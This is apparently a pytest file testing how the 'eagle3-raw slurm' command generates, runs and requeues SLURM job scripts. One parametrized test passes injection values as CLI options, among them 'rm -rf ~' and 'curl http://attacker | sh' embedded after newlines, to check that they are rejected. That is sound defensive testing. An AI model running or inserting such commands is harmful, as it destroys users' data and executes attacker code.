"""``eagle3-raw slurm`` (issue 16): the generated array and merge jobs, run by a real single-node
SLURM where its daemons are installed (Debian's slurmctld/slurmd), and always by a stand-in that
runs the same scripts with the variables SLURM sets (``SLURM_ARRAY_TASK_ID``, ...) and an
``scontrol`` that records the requeue. Each shard task launches its own server (the reference
server standing in for SGLang) through the launcher; a task stopped mid-run (SIGTERM to its batch
script, as preemption does, or SIGUSR1 before the time limit) flushes, requeues itself and, run
again, resumes exactly once; the merged set equals a single-process build.
"""

from __future__ import annotations

import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

import eagle3_raw
from eagle3_raw.cli.main import main
from eagle3_raw.journal import Journal
from tests.helpers import (
    generations,
    ledgers_in,
    processes_with,
    requested_rids,
    rid_row_id,
    sglang_section,
    write_prompts,
    write_recipe,
)  # fmt: skip
from tests.reference.wire import wait_until
from tests.support.pace import scaled
from tests.support.slurm import SlurmCluster, slurm_cluster  # noqa: F401  (the fixture)

_SHARDS = 2
_PROMPTS = 40


def _recipe(tmp_path: Path) -> Path:
    write_prompts(tmp_path, _PROMPTS)
    server = sglang_section(tmp_path / "ledgers", "--slots", "2", "--ms-per-token", "5", stop_timeout=5)
    return write_recipe(tmp_path, endpoints=[], server=server, sampling={"max_new_tokens": 48})


def _node_python(tmp_path: Path) -> str:
    """A folder whose ``python`` (this test's interpreter, each use recorded in ``node-python.log``)
    stands for the nodes' venv; the ``--setup`` line that puts it first on the jobs' PATH."""
    folder = tmp_path / "node-venv" / "bin"
    folder.mkdir(parents=True)
    log = tmp_path / "node-python.log"
    (folder / "python").write_text(f'#!/bin/sh\necho "$*" >> {log}\nexec {sys.executable} "$@"\n')
    (folder / "python").chmod(0o755)
    return f'export PATH={folder}:"$PATH"'


def _generate(tmp_path: Path, recipe: Path, *extra: str, env: dict[str, str] | None = None) -> str:
    """``eagle3-raw slurm`` run as a user does (a subprocess); its stdout. The jobs find the
    interpreter through a ``--setup`` line (:func:`_node_python`) unless ``extra`` sets up its own."""
    setup = [] if "--setup" in extra or "--command" in extra else ["--setup", _node_python(tmp_path)]
    done = subprocess.run(
        [sys.executable, "-m", "eagle3_raw.cli", "slurm", str(recipe), "--shards", str(_SHARDS),
         "--journal-dir", str(tmp_path / "journals"), "--job-dir", str(tmp_path / "job"),
         "--cache-dir", str(tmp_path / "cache"), "--cpus-per-task", "1", *setup, *extra],
        capture_output=True, text=True, timeout=scaled(120), env=env,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    return done.stdout


def _kept_rows(tmp_path: Path) -> set[str]:
    (directory,) = (tmp_path / "journals" / "sets").iterdir()
    with Journal.read_dir(directory) as journal:
        return {row.id for row in journal.iter_rows()}


def _running(tmp_path: Path) -> bool:
    """Both tasks' servers are up, and shard 0 has rows (a stop now is a stop mid-run)."""
    ledgers = ledgers_in(tmp_path / "ledgers")
    return len(ledgers) == _SHARDS and min(len(generations(ledger)) for ledger in ledgers) >= 3


def _ports(logs: list[Path]) -> set[str]:
    return {
        m for log in logs for m in re.findall(r"starting the SGLang server: .* --port (\d+)", log.read_text())
    }


def _check(tmp_path: Path, recipe: Path, kept: set[str], restarted: Path, logs: list[Path]) -> None:
    """Exactly once across the stop, the merged set equal to a single build, no server left."""
    asked_again = {rid_row_id(rid) for rid in requested_rids(restarted)}
    assert kept and not kept & asked_again, sorted(kept & asked_again)[:5]
    ledgers = ledgers_in(tmp_path / "ledgers")
    assert len(ledgers) == _SHARDS + 1  # a server per task run: two, and the stopped one's rerun
    delivered = {rid_row_id(g["rid"]) for ledger in ledgers for g in generations(ledger)}
    ports = _ports(logs)
    assert len(ports) == _SHARDS + 1 and not any(processes_with("--port", port) for port in ports)
    built = eagle3_raw.load(str(recipe), cache_dir=str(tmp_path / "cache"), journal_dir=tmp_path / "journals")
    clean = eagle3_raw.load(str(recipe), cache_dir=str(tmp_path / "clean"), journal_dir=tmp_path / "clean-j")
    assert built["id"] == clean["id"] and built["input_ids"] == clean["input_ids"]
    assert built["loss_mask"] == clean["loss_mask"] and len(built) == _PROMPTS == len(delivered)


@pytest.mark.slow
def test_the_scripts_say_what_slurm_must_do(tmp_path: Path) -> None:
    recipe = _recipe(tmp_path)
    shown = _generate(tmp_path, recipe, "--partition", "gpu", "--time", "24:00:00", "--gpus", "8",
                      "--parallel", "1", "--sbatch-arg=--account=abc", "--sbatch-arg=--gres=gpu:8",
                      "--setup", "module load cuda", "--push", "org/name", "--tag", "v1")  # fmt: skip
    shards, merge = (
        (tmp_path / "job" / "shards.sbatch").read_text(),
        (tmp_path / "job" / "merge.sbatch").read_text(),
    )
    for option in ("--array=0-1%1", "--requeue", "--signal=B:USR1@300", "--open-mode=append", "--gpus=8",
                   "--partition=gpu", "--time=24:00:00", "--account=abc", "--gres=gpu:8",
                   "%x-%A_%a.out"):  # fmt: skip
        assert f"#SBATCH {option}" in shards or option in shards, option
    assert "--shard auto" in shards and 'scontrol requeue "$task"' in shards and "module load cuda" in shards
    assert "#SBATCH --time=01:00:00" in merge and "#SBATCH --account=abc" in merge
    # the merge is CPU work: no GPU asked, and not the GPU partition (the cluster's default one)
    assert "--gpus" not in merge and "--gres" not in merge and "--partition" not in merge
    assert " merge " in merge and " push " in merge and "--repo org/name --tag v1" in merge
    assert "sbatch --dependency=afterok:" in shown


@pytest.mark.slow
def test_the_merge_job_goes_to_its_own_partition(tmp_path: Path) -> None:
    recipe = _recipe(tmp_path)
    _generate(tmp_path, recipe, "--partition", "gpu", "--merge-partition", "cpu", "--gpus", "8")
    merge = (tmp_path / "job" / "merge.sbatch").read_text()
    assert "#SBATCH --partition=cpu" in merge and "gpu" not in merge
    assert "#SBATCH --partition=gpu" in (tmp_path / "job" / "shards.sbatch").read_text()


def _recorder(folder: Path, name: str, log: Path) -> None:
    """``folder/name``: a program that only records how it was called."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(f'#!/bin/sh\necho "$(basename "$0") $*" >> {log}\n')
    (folder / name).chmod(0o755)


def _run_job(tmp_path: Path, script: str) -> subprocess.CompletedProcess[str]:
    """``bash JOB_DIR/<script>`` with the variables SLURM sets for array task 0."""
    variables = {"SLURM_ARRAY_JOB_ID": "7", "SLURM_ARRAY_TASK_ID": "0", "SLURM_JOB_ID": "8"}
    return subprocess.run(["bash", str(tmp_path / "job" / script)], env={**os.environ, **variables},
                          capture_output=True, text=True, timeout=scaled(60))  # fmt: skip


@pytest.mark.slow
def test_the_setup_lines_choose_the_interpreter_the_jobs_run(tmp_path: Path) -> None:
    """Issue 21, finding 9: the scripts named this machine's own Python, so ``--setup 'source
    /shared/venv/bin/activate'`` chose nothing. The ``python`` the setup puts first runs both jobs."""
    recipe, log = _recipe(tmp_path), tmp_path / "calls.log"
    _recorder(tmp_path / "venv" / "bin", "python", log)
    _generate(tmp_path, recipe, "--setup", f'export PATH={tmp_path / "venv" / "bin"}:"$PATH"')
    for script in ("shards.sbatch", "merge.sbatch"):
        assert sys.executable not in (tmp_path / "job" / script).read_text()
        done = _run_job(tmp_path, script)
        assert done.returncode == 0, done.stderr
        assert f"running {tmp_path / 'venv' / 'bin' / 'python'}" in done.stdout
    calls = log.read_text().splitlines()
    assert len(calls) == 2 and all(call.startswith("python -m eagle3_raw.cli ") for call in calls)
    assert calls[0].startswith(f"python -m eagle3_raw.cli build {recipe} --shard auto")
    assert calls[1].startswith(f"python -m eagle3_raw.cli merge {recipe} --journal-dir")


@pytest.mark.slow
def test_command_names_another_program_and_a_missing_one_is_said(tmp_path: Path) -> None:
    recipe, log = _recipe(tmp_path), tmp_path / "calls.log"
    _recorder(tmp_path / "tools", "site-e3", log)
    _generate(tmp_path, recipe, "--setup", f"PATH={tmp_path / 'tools'}:\"$PATH\"",
              "--command", "site-e3 --flag")  # fmt: skip
    assert _run_job(tmp_path, "merge.sbatch").returncode == 0
    assert log.read_text().startswith(f"site-e3 --flag merge {recipe} --journal-dir")

    _generate(tmp_path, recipe, "--command", "site-e3 --flag")  # no setup line: not on the PATH
    for script in ("shards.sbatch", "merge.sbatch"):
        done = _run_job(tmp_path, script)
        assert done.returncode == 2 and "site-e3 is not found on" in done.stderr, done.stderr
        assert "--setup" in done.stderr and "--command" in done.stderr and "Traceback" not in done.stderr
    assert len(log.read_text().splitlines()) == 1  # nothing else ran


@pytest.mark.parametrize(
    "extra",
    [
        ["--partition", "gpu\nrm -rf ~"],
        ["--sbatch-arg=--account=abc\ncurl http://attacker | sh"],
        ["--time", "1:00:00\r"],
        ["--mem", "8G\x1b[2J"],
    ],
)
def test_a_value_with_a_control_character_never_becomes_a_shell_line(
    tmp_path: Path, extra: list[str]
) -> None:
    """Issue 22, finding 8: a newline in --partition or --sbatch-arg was a line of the sbatch script."""
    recipe = _recipe(tmp_path)
    argv = ["slurm", str(recipe), "--shards", "2", "--journal-dir", str(tmp_path / "j"),
            "--job-dir", str(tmp_path / "job"), *extra]  # fmt: skip
    assert main(argv) == 1
    assert not (tmp_path / "job" / "shards.sbatch").exists()


@pytest.mark.slow
def test_the_job_scripts_under_a_stand_in_for_slurm(tmp_path: Path) -> None:
    """bash runs the scripts with the variables SLURM would set; ``scontrol`` records the requeue."""
    recipe = _recipe(tmp_path)
    _generate(tmp_path, recipe)
    tools = tmp_path / "bin"
    tools.mkdir()
    (tools / "scontrol").write_text(f'#!/bin/sh\necho "$@" >> {tmp_path / "scontrol.log"}\n')
    (tools / "scontrol").chmod(0o755)
    logs = [tmp_path / "job" / "logs" / f"task-{name}.out" for name in ("0", "1", "0-again")]

    def task(index: int, run: int, log: Path) -> subprocess.Popen[bytes]:
        variables = {
            "SLURM_ARRAY_JOB_ID": "100", "SLURM_ARRAY_TASK_ID": str(index), "SLURM_ARRAY_TASK_COUNT": "2",
            "SLURM_ARRAY_TASK_MIN": "0", "SLURM_ARRAY_TASK_MAX": "1", "SLURM_ARRAY_TASK_STEP": "1",
            "SLURM_JOB_ID": str(100 + index), "SLURM_RESTART_COUNT": str(run), "SLURM_NTASKS": "1",
            "SLURM_PROCID": "0", "PATH": f"{tools}:{os.environ['PATH']}",
        }  # fmt: skip
        script = str(tmp_path / "job" / "shards.sbatch")
        return subprocess.Popen(["bash", script], env={**os.environ, **variables}, stdout=log.open("wb"),
                                stderr=subprocess.STDOUT)  # fmt: skip

    first, other = task(0, 0, logs[0]), task(1, 0, logs[1])
    wait_until(lambda: _running(tmp_path), 90)
    first.send_signal(signal.SIGTERM)  # preemption: SIGTERM to the batch script
    assert first.wait(scaled(60)) == 130, logs[0].read_text()[-3000:]
    assert (tmp_path / "scontrol.log").read_text() == "requeue 100_0\n"
    kept, before = _kept_rows(tmp_path), set(ledgers_in(tmp_path / "ledgers"))
    assert other.wait(scaled(120)) == 0, logs[1].read_text()[-3000:]
    assert task(0, 1, logs[2]).wait(scaled(120)) == 0, logs[2].read_text()[-3000:]  # the requeued run
    (restarted,) = set(ledgers_in(tmp_path / "ledgers")) - before
    merge = subprocess.run(["bash", str(tmp_path / "job" / "merge.sbatch")], capture_output=True, text=True,
                           timeout=scaled(120))  # fmt: skip
    assert merge.returncode == 0 and f"rows              {_PROMPTS}" in merge.stdout, merge.stderr[-3000:]
    assert "starting the SGLang server" not in merge.stderr  # the merge starts no server
    ran = (tmp_path / "node-python.log").read_text()  # the nodes' python, chosen by --setup
    assert ran.count("-m eagle3_raw.cli build ") == 3 and ran.count("-m eagle3_raw.cli merge ") == 1
    _check(tmp_path, recipe, kept, restarted, logs)


@pytest.mark.slow
@pytest.mark.timeout(480)
def test_the_array_and_merge_jobs_on_a_real_slurm(tmp_path: Path, slurm_cluster: SlurmCluster) -> None:  # noqa: F811
    recipe = _recipe(tmp_path)
    shown = _generate(tmp_path, recipe, "--submit", env=slurm_cluster.env)
    array, merge = re.search(r"array job (\d+), merge job (\d+)", shown).groups()  # type: ignore[union-attr]
    wait_until(lambda: _running(tmp_path), 120)
    stopped = 0
    slurm_cluster.run("scancel", "--batch", "--signal=USR1", f"{array}_{stopped}")  # the time limit is near
    wait_until(lambda: slurm_cluster.job_state(f"{array}_{stopped}") == "PENDING", 90)  # requeued
    kept, before = _kept_rows(tmp_path), set(ledgers_in(tmp_path / "ledgers"))
    deadline = time.monotonic() + 300
    while slurm_cluster.job_state(merge) not in ("COMPLETED", "FAILED", "CANCELLED", "TIMEOUT"):
        assert time.monotonic() < deadline, slurm_cluster.run("squeue", "-a") + slurm_cluster.logs()
        time.sleep(1)
    logs = sorted((tmp_path / "job" / "logs").glob("*"))
    text = "".join(f"--- {p.name}\n{p.read_text()}" for p in logs)
    assert slurm_cluster.job_state(merge) == "COMPLETED", text[-4000:]
    assert text.count("requeueing") == 1 and f"rows              {_PROMPTS}" in text
    (restarted,) = set(ledgers_in(tmp_path / "ledgers")) - before
    _check(tmp_path, recipe, kept, restarted, [p for p in logs if "merge" not in p.name])
